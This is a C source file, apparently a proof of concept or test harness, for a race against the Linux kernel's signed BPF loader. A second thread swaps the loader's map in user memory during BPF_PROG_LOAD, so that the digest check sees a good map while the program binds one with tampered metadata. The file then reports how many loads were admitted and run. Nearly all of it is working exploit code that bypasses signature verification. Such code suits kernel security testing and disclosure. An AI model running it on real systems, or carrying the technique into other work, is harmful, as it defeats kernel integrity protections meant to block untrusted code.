/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * swap RING SECONDS LOADER METADATA SIGNATURE: up to 7.2 the kernel reads the
 * loader's map from user memory at each use. A second thread shows it, for a
 * moment, another map with tampered metadata. Prints how many loads were tried,
 * admitted, bound two maps, and ran on the tampered map (the loader's own check
 * of the digest makes it answer -22 when it sees that map).
 */
#include "attack.h"

#include <bpf/bpf.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stddef.h>
#include <time.h>

#include "lib/crypto/digest.h"
#include "tests/kernel/loader_map.h"

static struct buf insns = { .max = FILE_MAX };
static struct buf data = { .max = FILE_MAX };
static struct buf sig = { .max = FILE_MAX };
static uint8_t digest[32];
static atomic_int slot, good, evil, racing, fast, ended;
static atomic_uint hit, current;

static int make_map(void)
{
	int fd = make_loader_map(buf_view(&data), digest);

	if (fd < 0)
		exit(2);
	return fd;
}

/*
 * Either swaps to and fro as fast as it can, which binds two maps, or waits a
 * random while, near what worked before, and swaps for a shorter one, so that
 * the check of the digest may see the good map only.
 */
static void *race(void *arg)
{
	unsigned int seed = 1;

	(void)arg;
	while (!ended) {
		unsigned int wait;

		if (!racing)
			continue;
		if (fast) {
			while (racing) {
				slot = evil;
				slot = good;
			}
			continue;
		}
		seed = seed * 1103515245 + 12345;
		wait = hit ? (hit > 4000 ? hit - 4000 : 0) + (seed >> 8) % 8000 :
			     (seed >> 8) % 4000 * 500;
		current = wait;
		for (volatile unsigned int k = 0; k < wait && racing; k++)
			;
		slot = evil;
		seed = seed * 1103515245 + 12345;
		for (volatile unsigned int k = 0; k < (seed >> 16) % 400; k++)
			;
		slot = good;
		while (racing && !ended)
			;
	}
	return NULL;
}

static int load(int keyring)
{
	struct attr_prog_load a = {
		.prog_type = BPF_PROG_TYPE_SYSCALL, .insn_cnt = insns.n / 8,
		.insns = bpf_ptr(insns.p), .license = bpf_ptr("Dual BSD/GPL"),
		.prog_flags = BPF_F_SLEEPABLE, .prog_name = "swapped",
		.fd_array = bpf_ptr(&slot), .signature = bpf_ptr(sig.p),
		.signature_size = sig.n, .keyring_id = keyring,
	};

	return sys_bpf(BPF_PROG_LOAD, &a, sizeof(a));
}

static unsigned int maps_of(int prog)
{
	struct bpf_prog_info info = { 0 };
	__u32 n = sizeof(info);

	return bpf_obj_get_info_by_fd(prog, &info, &n) ? 0 : info.nr_map_ids;
}

static int run(int prog)
{
	uint8_t c[2048] = { 0 };
	struct attr_prog_run a = {
		.prog_fd = prog, .ctx_in = bpf_ptr(c), .ctx_size_in = sizeof(c),
	};

	return sys_bpf(BPF_PROG_RUN, &a, sizeof(a)) ? -errno : (int)a.retval;
}

static void attack(int keyring, int seconds)
{
	long tried = 0, admitted = 0, two = 0, ran = 0;
	time_t end = time(NULL) + seconds;

	while (time(NULL) < end) {
		int prog, fds[2];

		fds[0] = make_map();
		data.p[data.n - 1] ^= 1;
		fds[1] = make_map();
		data.p[data.n - 1] ^= 1;
		good = slot = fds[0];
		evil = fds[1];
		fast = tried & 1;
		racing = 1;
		prog = load(keyring);
		racing = 0;
		tried++;
		if (prog >= 0) {
			unsigned int n = maps_of(prog);

			admitted++;
			if (n == 2) {
				two++;
				if (!fast)
					hit = current;
				ran += run(prog) >= 0;
			}
			close(prog);
		}
		close(fds[0]);
		close(fds[1]);
	}
	printf("tried=%ld\nadmitted=%ld\ntwo=%ld\nran=%ld\n", tried, admitted, two, ran);
}

int main(int argc, char **argv)
{
	pthread_t thread;

	if (argc != 6 || bk_file_read(NULL, argv[3], FILE_MAX, &insns) ||
	    bk_file_read(NULL, argv[4], FILE_MAX, &data) ||
	    bk_file_read(NULL, argv[5], FILE_MAX, &sig) ||
	    bk_sha256(NULL, buf_view(&insns), digest) ||
	    pthread_create(&thread, NULL, race, NULL))
		return 2;
	attack(atoi(argv[1]), atoi(argv[2]));
	ended = 1;
	pthread_join(thread, NULL);
	return 0;
}
